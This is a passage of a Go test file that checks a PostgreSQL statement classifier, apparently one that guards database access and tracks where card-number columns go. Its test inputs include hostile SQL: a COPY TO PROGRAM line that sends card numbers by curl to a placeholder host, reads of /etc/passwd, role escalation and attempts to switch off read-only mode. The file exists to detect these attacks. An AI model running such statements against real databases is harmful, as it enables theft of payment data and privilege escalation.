package sqlclass

import (
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"
)

// want is the expected classification of one statement. reads, writes and flags are always
// compared (nil means none); funcs, cols and settings only when not nil. cols are written as
// "table.column:usage,usage" (".column:..." for an unattributed column).
type want struct {
	cmd      string
	ro       bool
	ddl      bool
	reads    []string
	writes   []string
	funcs    []string
	flags    []string
	cols     []string
	settings []string
	name     string
}

type tc struct {
	q     string
	n     int // statements expected (0: 1)
	at    int // statement to check
	w     want
	inner *want // Explains or Prepared
}

func s(xs ...string) []string { return xs }

var none = []string{}

const cards = "public.cards"

var cases = []tc{
	// plain reads and column usage
	{q: "SELECT pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: none, cols: s("public.cards.pan:output")}},
	{q: "SELECT pan AS x FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
	{q: "SELECT id FROM cards WHERE pan LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "SELECT substr(pan, 9, 8) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("substr"), cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT reverse(pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("reverse"), cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT pan || '' FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: none, cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT id FROM cards ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:order")}},
	{q: "SELECT count(*) FROM cards GROUP BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count"), cols: s("public.cards.pan:group")}},
	{q: "SELECT count(DISTINCT pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count"), cols: s("public.cards.pan:aggregate,derived")}},
	{q: "SELECT c.id FROM cards c JOIN tokens t ON t.pan = c.pan", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.id:output", "public.cards.pan:filter", "public.tokens.pan:filter")}},
	{q: "SELECT * FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output")}},
	{q: "SELECT c.* FROM cards c, tokens t", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.*:output")}},
	{q: "SELECT pan::text FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT CASE WHEN pan LIKE '4%' THEN 'visa' END FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT pan FROM cards WHERE substr(pan, 1, 1) = '4'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:filter,function,output")}},
	{q: "SELECT DISTINCT ON (pan) id FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:group")}},
	{q: "SELECT string_agg(pan, ',' ORDER BY pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,derived,order")}},
	{q: "SELECT count(*) FILTER (WHERE pan LIKE '4%') FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:filter")}},
	{q: "SELECT pan, count(*) FROM cards GROUP BY 1 HAVING count(pan) > 1", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,filter,group,output")}},
	{q: "SELECT row_number() OVER (PARTITION BY pan ORDER BY id) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("row_number"), cols: s("public.cards.id:order", "public.cards.pan:group")}},
	{q: "SELECT left(pan, 6) AS bin FROM cards ORDER BY bin", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function,order")}},
	{q: "SELECT pan FROM cards c JOIN old_cards USING (pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".pan:derived", "public.cards.pan:filter", "public.old_cards.pan:filter")}},
	{q: "SELECT id FROM cards NATURAL JOIN old_cards", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".id:derived", "public.cards.*:filter", "public.old_cards.*:filter")}},
	{q: "SELECT row_to_json(c) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("row_to_json"), cols: s("public.cards.*:derived,function", "public.cards.c:derived,function")}},
	{q: "SELECT a FROM cards AS c(a)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output")}},
	{q: "SELECT public.cards.pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
	// subqueries and CTEs
	{q: "SELECT x FROM (SELECT pan AS x FROM cards) s WHERE x LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:filter,output")}},
	{q: "SELECT * FROM (SELECT * FROM cards) s WHERE s.pan LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output", "public.cards.pan:filter")}},
	{q: "SELECT b FROM (SELECT substr(pan, 1, 6) AS b FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
	{q: "WITH c AS (SELECT pan FROM cards) SELECT pan FROM c ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:order,output")}},
	{q: "WITH cards AS (SELECT 1 AS pan) SELECT pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: nil, cols: none}},
	{q: "WITH RECURSIVE r(n, p) AS (SELECT 1, pan FROM cards UNION ALL SELECT n + 1, p FROM r WHERE n < 3) SELECT p FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,setop")}},
	{q: "SELECT (SELECT pan FROM cards LIMIT 1) AS p", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived")}},
	{q: "SELECT ARRAY(SELECT pan FROM cards)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT id FROM orders WHERE card_id IN (SELECT id FROM cards WHERE pan LIKE '4%')", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.orders"), cols: s(".id:filter", ".pan:filter", "public.orders.card_id:filter", "public.orders.id:output")}},
	{q: "SELECT id FROM cards WHERE EXISTS (SELECT 1 FROM tokens t WHERE t.pan = cards.pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.id:output", "public.cards.pan:filter", "public.tokens.pan:filter")}},
	{q: "SELECT t.x FROM cards c, LATERAL (SELECT c.pan AS x) t", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
	{q: "SELECT pan FROM cards UNION SELECT pan FROM old_cards ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s("public.cards.pan:derived,order,setop", "public.old_cards.pan:derived,order,setop")}},
	{q: "SELECT v.column1 FROM (VALUES (1), (2)) v", w: want{cmd: "SELECT", ro: true, reads: nil, cols: none}},
	{q: "SELECT * FROM generate_series(1, 3) g, cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("generate_series"), cols: s("public.cards.*:output")}},
	// data-modifying CTEs, SELECT INTO, locking
	{q: "WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d", w: want{cmd: "SELECT", reads: s(cards), writes: s(cards), flags: s(FlagDataModifyingCTE), cols: s("public.cards.*:output,returning")}},
	{q: "WITH u AS (UPDATE cards SET pan = NULL RETURNING id) SELECT count(*) FROM u", w: want{cmd: "SELECT", reads: s(cards), writes: s(cards), flags: s(FlagDataModifyingCTE)}},
	{q: "WITH x AS (SELECT pan FROM cards) INSERT INTO leak SELECT * FROM x", w: want{cmd: "INSERT", reads: s(cards), writes: s("public.leak"), cols: s("public.cards.pan:copy", "public.leak.*:write")}},
	{q: "SELECT pan INTO newt FROM cards", w: want{cmd: "SELECT", reads: s(cards), writes: s("public.newt"), flags: s(FlagSelectInto), cols: s("public.cards.pan:copy")}},
	{q: "SELECT * INTO TEMP t FROM cards", w: want{cmd: "SELECT", reads: s(cards), writes: s("public.t"), flags: s(FlagSelectInto), cols: s("public.cards.*:copy")}},
	{q: "SELECT * FROM cards FOR UPDATE", w: want{cmd: "SELECT", reads: s(cards), flags: s(FlagForUpdate)}},
	{q: "SELECT id FROM cards FOR SHARE SKIP LOCKED", w: want{cmd: "SELECT", reads: s(cards), flags: s(FlagForUpdate)}},
	{q: "SELECT * FROM (SELECT id FROM cards FOR NO KEY UPDATE) s", w: want{cmd: "SELECT", reads: s(cards), flags: s(FlagForUpdate)}},
	// functions
	{q: "SELECT nextval('card_seq')", w: want{cmd: "SELECT", funcs: s("nextval"), flags: s(FlagSideEffectFunction)}},
	{q: "SELECT setval('s', 1), currval('s')", w: want{cmd: "SELECT", funcs: s("currval", "setval"), flags: s(FlagSideEffectFunction)}},
	{q: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", w: want{cmd: "SELECT", reads: s("public.pg_stat_activity"), funcs: s("pg_terminate_backend"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT pg_catalog.pg_cancel_backend(1)", w: want{cmd: "SELECT", funcs: s("pg_catalog.pg_cancel_backend"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT pg_read_file('/etc/passwd')", w: want{cmd: "SELECT", funcs: s("pg_read_file"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT * FROM pg_ls_dir('.')", w: want{cmd: "SELECT", funcs: s("pg_ls_dir"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')", w: want{cmd: "SELECT", funcs: s("lo_export", "lo_import"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT lo_create(0)", w: want{cmd: "SELECT", funcs: s("lo_create"), flags: s(FlagSideEffectFunction)}},
	{q: "SELECT * FROM dblink('host=x', 'DELETE FROM cards') AS t(a int)", w: want{cmd: "SELECT", funcs: s("dblink"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT pg_advisory_lock(1), pg_sleep(1), pg_notify('c', 'x')", w: want{cmd: "SELECT", funcs: s("pg_advisory_lock", "pg_notify", "pg_sleep"), flags: s(FlagSideEffectFunction)}},
	{q: "SELECT txid_current()", w: want{cmd: "SELECT", funcs: s("txid_current"), flags: s(FlagSideEffectFunction)}},
	{q: "SELECT pg_reload_conf()", w: want{cmd: "SELECT", funcs: s("pg_reload_conf"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT table_to_xml('cards', true, false, '')", w: want{cmd: "SELECT", funcs: s("table_to_xml"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT query_to_xml('SELECT pan FROM cards', true, false, '')", w: want{cmd: "SELECT", funcs: s("query_to_xml"), flags: s(FlagDangerousFunction)}},
	{q: "SELECT set_config('search_path', 'x', false)", w: want{cmd: "SELECT", funcs: s("set_config"), flags: s(FlagSideEffectFunction), settings: s("search_path")}},
	{q: "SELECT set_config('transaction_read_only', 'off', false)", w: want{cmd: "SELECT", funcs: s("set_config"), flags: s(FlagDangerousFunction, FlagSetsReadOnly, FlagSideEffectFunction), settings: s("transaction_read_only")}},
	{q: "SELECT pg_catalog.set_config('role', 'admin', false)", w: want{cmd: "SELECT", funcs: s("pg_catalog.set_config"), flags: s(FlagDangerousFunction, FlagSetRole, FlagSideEffectFunction), settings: s("role")}},
	{q: "SELECT set_config($1, 'x', false)", w: want{cmd: "SELECT", funcs: s("set_config"), flags: s(FlagDangerousFunction, FlagSetRole, FlagSetsReadOnly, FlagSideEffectFunction), settings: s("*")}},
	{q: "SELECT my_func(pan) FROM cards", w: want{cmd: "SELECT", reads: s(cards), funcs: s("my_func"), flags: s(FlagUnknownFunction), cols: s("public.cards.pan:derived,function")}},
	{q: "SELECT public.lower(name) FROM cards", w: want{cmd: "SELECT", reads: s(cards), funcs: s("public.lower"), flags: s(FlagUnknownFunction)}},
	{q: "SELECT lower(name), now(), pg_catalog.upper(name), coalesce(name, ''), EXTRACT(year FROM created) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("extract", "lower", "now", "pg_catalog.upper"), cols: s("public.cards.created:derived,function", "public.cards.name:derived,function")}},
	{q: "SELECT count(*), max(id), random(), gen_random_uuid(), current_setting('work_mem') FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count", "current_setting", "gen_random_uuid", "max", "random")}},
	// COPY
	{q: "COPY (SELECT pan FROM cards) TO PROGRAM 'curl -d @- http://x'", w: want{cmd: "COPY", reads: s(cards), flags: s(FlagCopyProgram, FlagCopyTo), cols: s("public.cards.pan:copy")}},
	{q: "COPY cards TO '/tmp/cards.csv'", w: want{cmd: "COPY", reads: s(cards), flags: s(FlagCopyFile, FlagCopyTo), cols: s("public.cards.*:copy")}},
	{q: "COPY cards FROM STDIN", w: want{cmd: "COPY", writes: s(cards), flags: s(FlagCopyFrom), cols: s("public.cards.*:write")}},
	{q: "COPY cards (id, pan) FROM PROGRAM 'cat /tmp/x'", w: want{cmd: "COPY", writes: s(cards), flags: s(FlagCopyFrom, FlagCopyProgram), cols: s("public.cards.id:write", "public.cards.pan:write")}},
	{q: "COPY cards FROM '/tmp/x.csv' WITH (FORMAT csv)", w: want{cmd: "COPY", writes: s(cards), flags: s(FlagCopyFile, FlagCopyFrom)}},
	{q: "COPY (SELECT pan FROM cards) TO STDOUT", w: want{cmd: "COPY", ro: true, reads: s(cards), flags: s(FlagCopyTo), cols: s("public.cards.pan:output")}},
	{q: "COPY cards (pan) TO STDOUT WITH (FORMAT csv)", w: want{cmd: "COPY", ro: true, reads: s(cards), flags: s(FlagCopyTo), cols: s("public.cards.pan:output")}},
	{q: "COPY (DELETE FROM cards RETURNING pan) TO STDOUT", w: want{cmd: "COPY", reads: s(cards), writes: s(cards), flags: s(FlagCopyTo, FlagDataModifyingCTE), cols: s("public.cards.pan:output,returning")}},
	// opaque
	{q: "DO $$BEGIN DELETE FROM cards; END$$", w: want{cmd: "DO", flags: s(FlagOpaque)}},
	{q: "DO LANGUAGE plpgsql 'BEGIN NULL; END'", w: want{cmd: "DO", flags: s(FlagOpaque)}},
	{q: "CALL archive_cards(30)", w: want{cmd: "CALL", funcs: s("archive_cards"), flags: s(FlagOpaque, FlagUnknownFunction)}},
	// EXPLAIN, PREPARE, EXECUTE, DEALLOCATE
	{q: "EXPLAIN SELECT * FROM cards", w: want{cmd: "EXPLAIN", ro: true, cols: none}, inner: &want{cmd: "SELECT", ro: true, reads: s(cards)}},
	{q: "EXPLAIN DELETE FROM cards", w: want{cmd: "EXPLAIN", ro: true}, inner: &want{cmd: "DELETE", writes: s(cards)}},
	{q: "EXPLAIN ANALYZE DELETE FROM cards", w: want{cmd: "EXPLAIN", writes: s(cards), flags: s(FlagExplainAnalyze)}, inner: &want{cmd: "DELETE", writes: s(cards)}},
	{q: "EXPLAIN (ANALYZE, BUFFERS) SELECT pan FROM cards", w: want{cmd: "EXPLAIN", ro: true, reads: s(cards), flags: s(FlagExplainAnalyze), cols: s("public.cards.pan:output")}, inner: &want{cmd: "SELECT", ro: true, reads: s(cards)}},
	{q: "EXPLAIN (ANALYZE false) DELETE FROM cards", w: want{cmd: "EXPLAIN", ro: true}, inner: &want{cmd: "DELETE", writes: s(cards)}},
	{q: "EXPLAIN (ANALYZE on) UPDATE cards SET pan = NULL", w: want{cmd: "EXPLAIN", writes: s(cards), flags: s(FlagExplainAnalyze)}, inner: &want{cmd: "UPDATE", writes: s(cards)}},
	{q: "PREPARE p(int) AS DELETE FROM cards WHERE id = $1", w: want{cmd: "PREPARE", ro: true, name: "p"}, inner: &want{cmd: "DELETE", writes: s(cards)}},
	{q: "PREPARE q AS SELECT pan FROM cards", w: want{cmd: "PREPARE", ro: true, name: "q"}, inner: &want{cmd: "SELECT", ro: true, reads: s(cards)}},
	{q: "EXECUTE p(1)", w: want{cmd: "EXECUTE", flags: s(FlagOpaque), name: "p"}},
	{q: "EXECUTE p(nextval('s'))", w: want{cmd: "EXECUTE", funcs: s("nextval"), flags: s(FlagOpaque, FlagSideEffectFunction), name: "p"}},
	{q: "DEALLOCATE p", w: want{cmd: "DEALLOCATE", ro: true, name: "p"}},
	{q: "DEALLOCATE ALL", w: want{cmd: "DEALLOCATE", ro: true, name: "*"}},
	// several statements in one string
	{q: "SELECT 1; DELETE FROM cards", n: 2, at: 0, w: want{cmd: "SELECT", ro: true, flags: s(FlagMultiStatement)}},
	{q: "SELECT 1; DELETE FROM cards", n: 2, at: 1, w: want{cmd: "DELETE", writes: s(cards), flags: s(FlagMultiStatement)}},
	{q: "SELECT pan FROM cards;\n/* harmless */ UPDATE cards SET pan = '0' WHERE true;", n: 2, at: 1, w: want{cmd: "UPDATE", writes: s(cards), flags: s(FlagMultiStatement), cols: s("public.cards.pan:write")}},
	{q: "BEGIN READ ONLY; SET TRANSACTION READ WRITE; DELETE FROM cards; COMMIT", n: 4, at: 1, w: want{cmd: "SET", flags: s(FlagMultiStatement, FlagSetsReadOnly), settings: s("transaction_read_only")}},
	// comments, casing, quoting, schemas
	{q: "/* leading */ sElEcT pan FrOm CARDS -- trailing", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
	{q: "-- a comment\nDeLeTe /* DELETE */ FROM cards", w: want{cmd: "DELETE", writes: s(cards)}},
	{q: `SELECT "Pan" FROM "Cards"`, w: want{cmd: "SELECT", ro: true, reads: s("public.Cards"), cols: s("public.Cards.Pan:output")}},
	{q: `SELECT c."pan" FROM "billing"."cards" c`, w: want{cmd: "SELECT", ro: true, reads: s("billing.cards"), cols: s("billing.cards.pan:output")}},
	{q: "SELECT pan FROM billing.cards", w: want{cmd: "SELECT", ro: true, reads: s("billing.cards"), cols: s("billing.cards.pan:output")}},
	{q: "SELECT relname FROM pg_catalog.pg_class", w: want{cmd: "SELECT", ro: true, reads: s("pg_catalog.pg_class")}},
	{q: "SELECT billing.cards.pan FROM billing.cards", w: want{cmd: "SELECT", ro: true, reads: s("billing.cards"), cols: s("billing.cards.pan:output")}},
	// settings and roles
	{q: "SET ROLE admin", w: want{cmd: "SET ROLE", flags: s(FlagSetRole), settings: s("role")}},
	{q: "SET SESSION AUTHORIZATION admin", w: want{cmd: "SET SESSION AUTHORIZATION", flags: s(FlagSetRole), settings: s("session_authorization")}},
	{q: "RESET ROLE", w: want{cmd: "RESET ROLE", flags: s(FlagSetRole), settings: s("role")}},
	{q: "SET transaction_read_only = off", w: want{cmd: "SET", flags: s(FlagSetsReadOnly), settings: s("transaction_read_only")}},
	{q: "SET LOCAL default_transaction_read_only TO on", w: want{cmd: "SET", flags: s(FlagSetsReadOnly), settings: s("default_transaction_read_only")}},
	{q: "RESET default_transaction_read_only", w: want{cmd: "RESET", flags: s(FlagSetsReadOnly), settings: s("default_transaction_read_only")}},
	{q: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", w: want{cmd: "SET", flags: s(FlagSetsReadOnly), settings: s("default_transaction_read_only")}},
	{q: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY", w: want{cmd: "SET", ro: true, settings: s("transaction_isolation", "transaction_read_only")}},
	{q: "SET search_path = billing, public", w: want{cmd: "SET", ro: true, settings: s("search_path")}},
	{q: "SET TIME ZONE 'UTC'", w: want{cmd: "SET", ro: true, settings: s("timezone")}},
	{q: "RESET ALL", w: want{cmd: "RESET", ro: true, settings: s("all")}},
	{q: "SHOW transaction_read_only", w: want{cmd: "SHOW", ro: true, settings: none}},
	// transaction control
	{q: "BEGIN READ ONLY", w: want{cmd: "BEGIN", ro: true, settings: s("transaction_read_only")}},
	{q: "BEGIN READ WRITE", w: want{cmd: "BEGIN", flags: s(FlagSetsReadOnly)}},
	{q: "START TRANSACTION READ WRITE", w: want{cmd: "START TRANSACTION", flags: s(FlagSetsReadOnly)}},
	{q: "BEGIN", w: want{cmd: "BEGIN", ro: true}},
	{q: "COMMIT", w: want{cmd: "COMMIT", ro: true}},
	{q: "ROLLBACK", w: want{cmd: "ROLLBACK", ro: true}},
	{q: "SAVEPOINT a", w: want{cmd: "SAVEPOINT", ro: true, name: "a"}},
	{q: "RELEASE SAVEPOINT a", w: want{cmd: "RELEASE", ro: true, name: "a"}},
	{q: "ROLLBACK TO SAVEPOINT a", w: want{cmd: "ROLLBACK TO", ro: true, name: "a"}},
	{q: "PREPARE TRANSACTION 'x'", w: want{cmd: "PREPARE TRANSACTION"}},
	// writes
	{q: "TRUNCATE cards, billing.old_cards", w: want{cmd: "TRUNCATE", writes: s("billing.old_cards", cards)}},
	{q: "INSERT INTO cards (id, pan) VALUES (1, '4242424242424242')", w: want{cmd: "INSERT", writes: s(cards), cols: s("public.cards.id:write", "public.cards.pan:write")}},
	{q: "INSERT INTO cards VALUES (1, '4242424242424242') RETURNING pan", w: want{cmd: "INSERT", reads: s(cards), writes: s(cards), cols: s("public.cards.*:write", "public.cards.pan:returning")}},
	{q: "INSERT INTO cards (id, pan) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET pan = EXCLUDED.pan", w: want{cmd: "INSERT", writes: s(cards), cols: s("public.cards.id:filter,write", "public.cards.pan:copy,write")}},
	{q: "INSERT INTO cards (id) VALUES (1) ON CONFLICT DO NOTHING", w: want{cmd: "INSERT", writes: s(cards)}},
	{q: "INSERT INTO archive (pan) SELECT pan FROM cards WHERE id > 10", w: want{cmd: "INSERT", reads: s(cards), writes: s("public.archive"), cols: s("public.archive.pan:write", "public.cards.id:filter", "public.cards.pan:copy")}},
	{q: "INSERT INTO x VALUES ((SELECT pan FROM cards LIMIT 1))", w: want{cmd: "INSERT", reads: s(cards), writes: s("public.x"), cols: s("public.cards.pan:copy", "public.x.*:write")}},
	{q: "UPDATE cards SET pan = o.pan FROM other o WHERE o.id = cards.id", w: want{cmd: "UPDATE", reads: s("public.other"), writes: s(cards), cols: s("public.cards.id:filter", "public.cards.pan:write", "public.other.id:filter", "public.other.pan:copy")}},
	{q: "UPDATE cards SET note = reverse(pan)", w: want{cmd: "UPDATE", writes: s(cards), cols: s("public.cards.note:write", "public.cards.pan:copy,function")}},
	{q: "DELETE FROM cards c USING orders o WHERE o.card_id = c.id", w: want{cmd: "DELETE", reads: s("public.orders"), writes: s(cards), cols: s("public.cards.id:filter", "public.orders.card_id:filter")}},
	{q: "DELETE FROM cards WHERE pan LIKE '4%' RETURNING pan", w: want{cmd: "DELETE", reads: s(cards), writes: s(cards), cols: s("public.cards.pan:filter,returning")}},
	{q: "MERGE INTO cards c USING staging s ON c.id = s.id WHEN MATCHED THEN UPDATE SET pan = s.pan WHEN NOT MATCHED THEN INSERT (id, pan) VALUES (s.id, s.pan)", w: want{cmd: "MERGE", reads: s("public.staging"), writes: s(cards), cols: s("public.cards.id:filter,write", "public.cards.pan:write", "public.staging.id:copy,filter", "public.staging.pan:copy")}},
	{q: "MERGE INTO cards USING (SELECT id FROM old_cards) s ON cards.id = s.id WHEN MATCHED THEN DELETE", w: want{cmd: "MERGE", reads: s("public.old_cards"), writes: s(cards)}},
	// DDL
	{q: "CREATE TABLE x AS SELECT pan FROM cards", w: want{cmd: "CREATE TABLE AS", ddl: true, reads: s(cards), writes: s("public.x"), cols: s("public.cards.pan:copy")}},
	{q: "CREATE MATERIALIZED VIEW mv AS SELECT * FROM cards", w: want{cmd: "CREATE MATERIALIZED VIEW", ddl: true, reads: s(cards), writes: s("public.mv"), cols: s("public.cards.*:copy")}},
	{q: "CREATE TABLE t (id int PRIMARY KEY, pan text)", w: want{cmd: "CREATE TABLE", ddl: true, writes: s("public.t")}},
	{q: "CREATE TABLE t (id bigint DEFAULT nextval('s'))", w: want{cmd: "CREATE TABLE", ddl: true, writes: s("public.t"), funcs: s("nextval"), flags: s(FlagSideEffectFunction)}},
	{q: "CREATE INDEX cards_pan ON cards (pan)", w: want{cmd: "CREATE INDEX", ddl: true}},
	{q: "CREATE VIEW v AS SELECT pan FROM cards", w: want{cmd: "CREATE VIEW", ddl: true, reads: s(cards)}},
	{q: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", w: want{cmd: "CREATE FUNCTION", ddl: true}},
	{q: "CREATE SCHEMA billing", w: want{cmd: "CREATE SCHEMA", ddl: true}},
	{q: "CREATE ROLE agent LOGIN PASSWORD 'secret'", w: want{cmd: "CREATE ROLE", ddl: true}},
	{q: "CREATE EXTENSION dblink", w: want{cmd: "CREATE EXTENSION", ddl: true}},
	{q: "ALTER TABLE cards ADD COLUMN cvv text", w: want{cmd: "ALTER TABLE", ddl: true, writes: s(cards)}},
	{q: "ALTER TABLE cards RENAME COLUMN pan TO p", w: want{cmd: "ALTER TABLE", ddl: true, writes: s(cards)}},
	{q: "ALTER ROLE agent SUPERUSER", w: want{cmd: "ALTER ROLE", ddl: true}},
	{q: "ALTER SYSTEM SET default_transaction_read_only = off", w: want{cmd: "ALTER SYSTEM", ddl: true, flags: s(FlagSetsReadOnly), settings: s("default_transaction_read_only")}},
	{q: "DROP TABLE cards", w: want{cmd: "DROP TABLE", ddl: true, writes: s(cards)}},
	{q: "DROP TABLE IF EXISTS billing.cards, t CASCADE", w: want{cmd: "DROP TABLE", ddl: true, writes: s("billing.cards", "public.t")}},
	{q: "DROP FUNCTION f(int)", w: want{cmd: "DROP FUNCTION", ddl: true}},
	{q: "DROP MATERIALIZED VIEW mv", w: want{cmd: "DROP MATERIALIZED VIEW", ddl: true, writes: s("public.mv")}},
	{q: "DROP INDEX cards_pan", w: want{cmd: "DROP INDEX", ddl: true}},
	{q: "COMMENT ON TABLE cards IS 'holds PANs'", w: want{cmd: "COMMENT", ddl: true}},
	{q: "GRANT SELECT ON cards TO agent", w: want{cmd: "GRANT", ddl: true}},
	{q: "GRANT admin TO agent", w: want{cmd: "GRANT", ddl: true}},
	{q: "REVOKE ALL ON cards FROM agent", w: want{cmd: "REVOKE", ddl: true}},
	{q: "REFRESH MATERIALIZED VIEW mv", w: want{cmd: "REFRESH MATERIALIZED VIEW", writes: s("public.mv")}},
	// LISTEN/NOTIFY, maintenance, cursors, misc
	{q: "LISTEN card_events", w: want{cmd: "LISTEN", ro: true, name: "card_events"}},
	{q: "NOTIFY card_events, 'payload'", w: want{cmd: "NOTIFY", name: "card_events"}},
	{q: "UNLISTEN *", w: want{cmd: "UNLISTEN", ro: true, name: "*"}},
	{q: "VACUUM (ANALYZE) cards", w: want{cmd: "VACUUM"}},
	{q: "ANALYZE cards", w: want{cmd: "ANALYZE"}},
	{q: "CHECKPOINT", w: want{cmd: "CHECKPOINT"}},
	{q: "LOCK TABLE cards IN ACCESS EXCLUSIVE MODE", w: want{cmd: "LOCK", reads: s(cards)}},
	{q: "DECLARE c CURSOR FOR SELECT pan FROM cards", w: want{cmd: "DECLARE", ro: true, reads: s(cards), name: "c", cols: s("public.cards.pan:output")}},
	{q: "FETCH 10 FROM c", w: want{cmd: "FETCH", ro: true, name: "c"}},
	{q: "MOVE NEXT IN c", w: want{cmd: "MOVE", ro: true, name: "c"}},
	{q: "CLOSE ALL", w: want{cmd: "CLOSE", ro: true, name: "*"}},
	{q: "DISCARD ALL", w: want{cmd: "DISCARD", ro: true}},
	{q: "LOAD 'auto_explain'", w: want{cmd: "LOAD", flags: s(FlagDangerousFunction)}},
	{q: "CREATE TABLE t AS EXECUTE p", w: want{cmd: "CREATE TABLE AS", ddl: true, writes: s("public.t"), flags: s(FlagOpaque)}},
	{q: "SELECT (c).pan, (c).* FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output", "public.cards.pan:output")}},
	{q: "SELECT to_jsonb(c.*) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:derived,function")}},
	{q: "SELECT json_agg(c) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:aggregate,derived", "public.cards.c:aggregate,derived")}},
	{q: "SELECT pan FROM cards GROUP BY ROLLUP (pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:group,output")}},
	{q: "SELECT id FROM cards WHERE pan ~ '^4'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
	{q: "WITH x AS (SELECT * FROM cards) SELECT pan FROM x", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
	{q: "SELECT * FROM (cards c JOIN tokens t USING (id)) AS j WHERE j.pan LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.*:output", "public.cards.id:filter", "public.cards.pan:filter", "public.tokens.*:output", "public.tokens.id:filter", "public.tokens.pan:filter")}},
	{q: "VALUES (1, 'a')", w: want{cmd: "SELECT", ro: true}},
	// lineage: only a column PostgreSQL reports with its origin is output
	{q: "SELECT cvv FROM cards UNION ALL SELECT NULL", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,setop")}},
	{q: "SELECT (SELECT cvv FROM cards LIMIT 1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived")}},
